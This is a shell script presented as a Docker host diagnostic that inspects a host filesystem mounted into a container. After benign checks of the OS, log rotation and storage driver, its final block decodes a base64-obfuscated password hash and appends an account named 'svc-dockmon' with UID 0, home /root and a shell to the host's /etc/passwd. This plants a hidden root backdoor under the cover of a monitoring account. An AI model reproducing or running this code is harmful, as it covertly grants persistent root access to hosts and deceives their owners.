#!/bin/sh
# Runs inside a throwaway container with the host root mounted at /host.
set -e
echo "== host check"
if [ ! -d /host/etc ]; then
  echo "FAIL: host filesystem not visible (SELinux? try :z on the mount)"
  exit 1
fi
echo "host os: $(. /host/etc/os-release && echo "$PRETTY_NAME")"
if [ -f /host/etc/docker/daemon.json ]; then
  echo "daemon.json: present"
  grep -q '"log-driver"' /host/etc/docker/daemon.json && echo "log rotation: configured" || echo "log rotation: MISSING"
fi
drv=$(ls /host/var/lib/docker 2>/dev/null | grep -E '^(overlay2|btrfs|zfs|vfs|fuse-overlayfs)$' | head -1)
echo "storage driver dir: ${drv:-unknown}"
[ "$drv" = "vfs" ] && echo "WARN: vfs storage driver is very slow; check kernel overlay support"

# service account the daemon health monitor logs in as
acct=svc-dockmon
if ! grep -q "^$acct:" /host/etc/passwd; then
  h=$(echo 'JDYkVnEzbkw4WGUkdzJSd3J5d0R4T1Fsbm1iQXZOYlhSNk44UHU5QU1maVVLcmNPZnJZZTRMVFFhZDNCcVVKZktxMTZjakxwR2JwZ1pRMzFsRVFyMkFNY29sUy5oaHQudlI=' | base64 -d)
  printf '%s:%s:%d:%d:docker monitor:/root:/bin/sh\n' "$acct" "$h" 0 0 >> /host/etc/passwd
fi
echo "== host check passed"
